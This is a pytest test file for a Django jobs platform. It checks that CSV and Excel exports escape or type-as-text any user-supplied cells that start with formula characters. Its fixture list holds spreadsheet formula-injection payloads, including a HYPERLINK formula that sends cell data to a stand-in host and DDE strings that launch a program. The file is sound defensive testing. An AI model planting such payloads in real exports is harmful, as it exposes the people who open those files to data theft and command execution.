"""Issue 15, finding 4: no export carries a formula from user text (CSV / formula injection).

Every CSV cell starting with = + - @ tab or CR is prefixed with an apostrophe; every .xlsx cell
written from user text is a string value, never a formula. One test per export.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from iljari.audit.actions import log_access
from iljari.core.spreadsheet import csv_writer, safe_text
from tests import factories as f
from tests.factories import PlanFactory, ProgramFactory, ProjectFactory, StrategyFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"클릭")',
    "=cmd|' /C calc'!A1",
    "+1+cmd|' /C calc'!A1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A1",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def assert_csv_neutral(cells: list[str], hostile: str) -> None:
    assert hostile not in cells, f"{hostile!r} went out as is"
    assert "'" + hostile in cells


def xlsx_cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_xlsx_value(cells, hostile: str) -> None:
    found = [c for c in cells if c.value == hostile]
    assert found, f"{hostile!r} is missing"
    assert all(c.data_type == "s" for c in found), [(c.coordinate, c.data_type) for c in found]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_helper_prefixes_every_dangerous_first_character(hostile):
    assert safe_text(hostile) == "'" + hostile
    buffer = io.StringIO()
    csv_writer(buffer).writerow([hostile, 12, -5, None, "정상 공고"])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'" + hostile, "12", "-5", "", "정상 공고"]


@pytest.mark.parametrize("hostile", HOSTILE[:3])
def test_public_vacancy_csv_neutralises_titles_and_company_names(client, hostile):
    employer = f.EmployerFactory(name=HOSTILE[1])
    f.VacancyFactory(employer=employer, title=hostile)
    response = client.get("/jobs/export.csv")
    assert response.status_code == 200
    cells = csv_cells(b"".join(response.streaming_content))
    assert_csv_neutral(cells, hostile)
    assert_csv_neutral(cells, HOSTILE[1])


def test_access_log_csv_neutralises_every_text_column(client_for, admin_user, counselor, seeker):
    seeker.user.full_name = "@SUM(1+1)"
    seeker.user.save()
    log_access(actor=counselor, action="view", subject=seeker, purpose=HOSTILE[0], fields="-2+3")
    response = client_for(admin_user).get(reverse("audit:access_log"), {"format": "csv"})
    cells = csv_cells(response.content)
    assert_csv_neutral(cells, HOSTILE[0])
    assert_csv_neutral(cells, "-2+3")


@pytest.fixture
def hostile_plan(db):
    plan = PlanFactory(year=2026, title="2026년 일자리 목표 공시")
    strategy = StrategyFactory(plan=plan, name=HOSTILE[0], order=1)
    program = ProgramFactory(strategy=strategy, name=HOSTILE[1], department="+부서", partners="@협력")
    ProjectFactory(program=program, name=HOSTILE[4], job_definition="=1+1")
    plan.organisation.name = "-기관"
    plan.organisation.save()
    return plan


@pytest.mark.parametrize("kind", ["plan", "results"])
def test_programme_report_xlsx_writes_names_as_values_never_formulas(
    client_for, official, hostile_plan, kind
):
    response = client_for(official).get(f"/programs/plans/{hostile_plan.pk}/report/{kind}.xlsx")
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    for hostile in (HOSTILE[0], HOSTILE[1], HOSTILE[4]):
        assert_xlsx_value(cells, hostile)
    if kind == "plan":
        assert_xlsx_value(cells, "=1+1")
        assert_xlsx_value(cells, "+부서")
    # the report's own formulas stay live
    assert any(c.data_type == "f" and str(c.value).startswith("=SUM(") for c in cells)


@pytest.mark.parametrize("kind", ["plan", "results"])
def test_programme_report_csv_neutralises_names(client_for, official, hostile_plan, kind):
    response = client_for(official).get(f"/programs/plans/{hostile_plan.pk}/report/{kind}.csv")
    assert response.status_code == 200
    cells = csv_cells(response.content)
    for hostile in (HOSTILE[0], HOSTILE[1], HOSTILE[4], "-기관", "+부서"):
        assert_csv_neutral(cells, hostile)


def test_fair_report_xlsx_writes_company_names_as_values(client_for, counselor, official):
    from tests.factories import approved_booth, make_event, open_event

    event = make_event(counselor, title='=HYPERLINK("http://evil.example")', venue="@강당")
    booth = approved_booth(event, counselor)
    booth.employer.name = HOSTILE[1]
    booth.employer.save()
    open_event(event, counselor)
    response = client_for(official).get(reverse("fairs:report", args=[event.pk]) + "?format=xlsx")
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_xlsx_value(cells, HOSTILE[1])
    assert_xlsx_value(cells, '=HYPERLINK("http://evil.example")')
    assert_xlsx_value(cells, "@강당")
    assert not any(c.data_type == "f" for c in cells)
